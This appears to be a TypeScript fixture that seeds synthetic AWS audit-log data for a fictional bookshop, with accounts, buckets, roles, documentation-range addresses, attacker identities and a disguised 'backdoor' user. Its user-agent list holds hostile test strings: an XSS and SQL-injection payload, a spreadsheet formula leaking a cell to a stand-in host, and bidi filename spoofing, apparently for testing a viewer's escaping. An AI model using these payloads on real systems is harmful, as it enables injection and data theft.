import { makeRole, makeUser } from './identity.ts';
import type { Random } from './random.ts';

/** The two accounts of the made-up bookshop "Haneul": the shop itself, and its data platform. */
export const shopAccount = '111122223333';
export const dataAccount = '444455556666';
export const sampleAccounts = [shopAccount, dataAccount] as const;
export const sampleRegions = ['us-east-1', 'eu-central-1', 'ap-northeast-2'] as const;

/** Bucket and trail that both accounts deliver to; each account has one trail per Region under the same name. */
export const trailBucket = 'haneul-trail-archive';
export const trailName = 'haneul-trail';

export const buckets = {
  customers: 'haneul-customer-records',
  backups: 'haneul-shop-backups',
  invoices: 'haneul-invoices',
  assets: 'haneul-shop-assets',
  lake: 'haneul-analytics-lake',
} as const;

export const backupKeyArn = `arn:aws:kms:us-east-1:${shopAccount}:key/6f1d2c70-8a4e-4b57-9c3d-1f0e5a7b9c21`;
export const customerKeyArn = `arn:aws:kms:eu-central-1:${dataAccount}:key/0b7e94d2-3c15-4f68-a2d9-7c81e3f4a650`;
export const webInstanceId = 'i-0c7d21f5a9be3468d';

/** Addresses come from the ranges that RFC 5737 and RFC 3849 set aside for documentation. */
export const addresses = {
  seoulOffice: '203.0.113.10',
  berlinOffice: '203.0.113.77',
  minjunHome: '198.51.100.201',
  sofiaHome: '2001:db8:4a:10::51',
  supportDesk: '2001:db8:77:2::1f',
  shopGateway: '203.0.113.200',
  dataGateway: '203.0.113.201',
  webInstance: '10.20.1.15',
  attackerTools: '198.51.100.23',
  attackerBrowser: '192.0.2.146',
  attackerV6: '2001:db8:bad:cafe::7',
} as const;

export const userAgents = {
  awsCliMac:
    'aws-cli/2.27.41 md/awscrt#0.26.1 ua/2.1 os/macos#25.4.0 md/arch#arm64 lang/python#3.13.4 md/pyimpl#CPython cfg/retry-mode#standard',
  awsCliLinux:
    'aws-cli/2.26.2 md/awscrt#0.25.4 ua/2.1 os/linux#6.8.0 md/arch#x86_64 lang/python#3.12.9 md/pyimpl#CPython',
  terraform:
    'APN/1.0 HashiCorp/1.0 Terraform/1.12.1 (+https://www.terraform.io) terraform-provider-aws/6.2.0 (+https://registry.terraform.io/providers/hashicorp/aws) aws-sdk-go-v2/1.36.5 ua/2.1 os/linux lang/go#1.24.4',
  javaService:
    'aws-sdk-java/2.31.60 md/io#async md/http#NettyNio ua/2.1 os/Linux#6.1.141 lang/java#21.0.7 md/OpenJDK_64-Bit_Server_VM',
  nodeLambda: 'aws-sdk-js/3.826.0 ua/2.1 os/linux#5.10.238 lang/js md/nodejs#22.16.0 exec-env/AWS_Lambda_nodejs22.x',
  boto3: 'Boto3/1.38.36 md/Botocore#1.38.36 ua/2.1 os/linux#6.1.141 md/arch#aarch64 lang/python#3.12.10',
  firefox: 'Mozilla/5.0 (Macintosh; Intel Mac OS X 14.5; rv:139.0) Gecko/20100101 Firefox/139.0',
  chrome:
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/137.0.0.0 Safari/537.36',
  s3Console:
    '[S3Console/0.4, aws-internal/3 aws-sdk-java/1.12.783 Linux/5.10.238 OpenJDK_64-Bit_Server_VM/25.452-b09 java/1.8.0_452]',
  attackerPython:
    'Boto3/1.34.11 md/Botocore#1.34.11 ua/2.0 os/linux#6.6.15-amd64 md/arch#x86_64 lang/python#3.11.8 md/pyimpl#CPython',
  attackerCli: 'aws-cli/1.22.34 Python/3.10.12 Linux/6.6.15-amd64 botocore/1.23.34',
  attackerBrowser: 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
  /** Text that misbehaves where a viewer treats it as more than text: markup, a spreadsheet formula, bidi and control characters. */
  markup: 'Mozilla/5.0 "><img src=x onerror=alert(1)><script>alert(document.domain)</script> \'; DROP TABLE event;--',
  formula: '=HYPERLINK("http://203.0.113.250/?leak="&A1,"open me")',
  bidi: 'report-\u202Egnp.exe\u2066 \u200B\u0007\u001B[31mred\u001B[0m \u0000end',
} as const;

/** Everybody and everything with an identity. */
export interface World {
  users: ReturnType<typeof makePeople>;
  roles: ReturnType<typeof makeRoles>;
}

function makePeople(random: Random) {
  return {
    minjun: makeUser(random, shopAccount, 'minjun.lee'),
    sofia: makeUser(random, shopAccount, 'sofia.brandt'),
    printer: makeUser(random, shopAccount, 'label-printer'),
    backdoor: makeUser(random, shopAccount, 'svc-backup-sync'),
  };
}

function makeRoles(random: Random) {
  return {
    deploy: makeRole(random, shopAccount, 'deploy-pipeline', '/ci/'),
    support: makeRole(random, shopAccount, 'SupportEngineer'),
    powerUser: makeRole(
      random,
      shopAccount,
      'AWSReservedSSO_PowerUser_3f9a1c7b2d4e6085',
      '/aws-reserved/sso.amazonaws.com/ap-northeast-2/',
    ),
    breakGlass: makeRole(
      random,
      shopAccount,
      'AWSReservedSSO_BreakGlass_81d0c2e94b7a5f36',
      '/aws-reserved/sso.amazonaws.com/ap-northeast-2/',
    ),
    analyst: makeRole(
      random,
      dataAccount,
      'AWSReservedSSO_Analyst_c06e5b1f9a2d7384',
      '/aws-reserved/sso.amazonaws.com/ap-northeast-2/',
    ),
    web: makeRole(random, shopAccount, 'web-frontend'),
    orders: makeRole(random, shopAccount, 'order-events-lambda', '/service-role/'),
    invoices: makeRole(random, shopAccount, 'invoice-renderer-lambda', '/service-role/'),
    catalogue: makeRole(random, shopAccount, 'catalogue-api-task'),
    config: makeRole(random, shopAccount, 'AWSServiceRoleForConfig', '/aws-service-role/config.amazonaws.com/'),
    pipeline: makeRole(random, dataAccount, 'data-pipeline'),
    migration: makeRole(random, dataAccount, 'data-migration'),
    customerReader: makeRole(random, dataAccount, 'customer-archive-reader'),
  };
}

/** Gives everybody their ids; the same seed gives the same ids. */
export function createWorld(random: Random): World {
  return { users: makePeople(random), roles: makeRoles(random) };
}
